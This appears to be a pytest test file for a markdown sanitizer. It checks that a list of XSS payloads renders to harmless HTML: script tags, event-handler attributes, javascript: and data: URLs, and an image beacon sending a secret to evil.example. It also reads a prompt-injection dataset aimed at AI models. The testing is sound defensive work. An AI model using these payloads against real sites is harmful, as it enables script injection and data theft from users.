import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from gnomon.serving.web.markdown import ATTRIBUTES, LONGEST, REL, TAGS, markdown

HOSTILE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:x)", "<javascript:alert(1)>",
    "![a](http://evil.example/?q=secret)", "![a](x 'onerror=alert(1)')", "[x]: javascript:alert(1)\n\n[x]",
    "[a](http://x.example \"onmouseover=alert(1)\")", "```<script>\nalert(1)\n```", "`<b>`", "<a href='javascript:x'>y</a>",
    "<svg/onload=alert(1)>", "<style>*{}</style>", "<iframe src=//evil.example>", "<!-- --><b>x</b>", "<math><mi//xlink:href=x>",
    "| a |\n|:-:|\n| <i>x</i> |", "\u0000<b>", "[x](//evil.example)", "[x](/sign-out)", "&lt;script&gt;", "<form action=/x>",
    "[\u202ex](http://x.example)", "# <img src=x>", "1. <details open ontoggle=alert(1)>", "[x](<javascript:alert(1)>)",
]  # fmt: skip


class Reader(HTMLParser):
    """What a browser would build of a fragment."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def harmless(text: str) -> Reader:
    read = Reader(str(markdown(text)))
    for tag, attributes in read.tags:
        assert tag in TAGS | {"pre"}
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        if "href" in attributes:
            assert re.match(r"(https?|mailto):", str(attributes["href"]), re.IGNORECASE)
            assert attributes["rel"] == REL
    return read


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_becomes_harmless_html(text: str) -> None:
    harmless(text)


@given(
    st.lists(st.sampled_from([*HOSTILE, "\n\n", "> ", "* ", "**", "\\", "`", "[", "](", ")", "<", ">"])).map("".join)
)
@example("".join(HOSTILE))
def test_mixtures_of_hostile_markdown_become_harmless_html(text: str) -> None:
    harmless(text)


def test_what_models_write_is_shown_as_they_mean_it() -> None:
    made = str(
        markdown("# Title\n\nA *b* **c** `d`\n\n- x\n- y\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nif a < b:\n```")
    )
    for part in (
        "<h3>Title</h3>",
        "<em>b</em>",
        "<strong>c</strong>",
        "<code>d</code>",
        "<li>x</li>",
        "<td>2</td>",
        "a &lt; b",
    ):
        assert part in made
    link = str(markdown("[paper](https://example.org/a?b=1&c=2)"))
    assert link == f'<p><a href="https://example.org/a?b=1&amp;c=2" rel="{REL}">paper</a></p>\n'


def test_html_is_shown_as_its_source() -> None:
    assert harmless("a <b>bold</b> claim").text.strip() == "a <b>bold</b> claim"


def test_a_very_long_or_deep_text_is_shown_all_the_same() -> None:
    assert harmless("<b>" * LONGEST).text == "<b>" * LONGEST
    harmless(">" * 5_000 + "x")
    harmless("[" * 5_000)
    harmless("*a" * 5_000)


def test_attacks_collected_elsewhere_become_harmless_html(shared: Path) -> None:
    folder = shared / "data" / "safety" / "bipia"
    if not folder.is_dir():
        pytest.skip("needs ../shared/data/safety/bipia, which is not here")
    texts: list[str] = []
    for path in sorted(folder.rglob("*.json*"))[:12]:
        for line in path.read_text(encoding="utf-8").splitlines()[:400]:
            texts.append(line)
    assert texts
    for text in texts:
        harmless(text[:4_000])
        harmless(json.dumps(text[:4_000]))
